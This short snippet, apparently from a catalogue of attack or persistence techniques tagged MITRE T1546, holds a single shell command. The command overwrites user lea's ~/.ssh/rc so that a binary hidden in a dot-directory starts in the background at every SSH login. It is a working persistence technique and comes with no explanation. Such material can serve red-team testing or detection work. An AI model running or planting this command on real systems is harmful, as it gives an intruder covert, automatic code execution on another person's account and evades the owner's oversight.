# technique: T1546
# location: linux.ssh.user-rc
# source: /home/lea/.ssh/rc
su lea -c "echo '/home/lea/.local/share/.p/pw &' > ~/.ssh/rc"
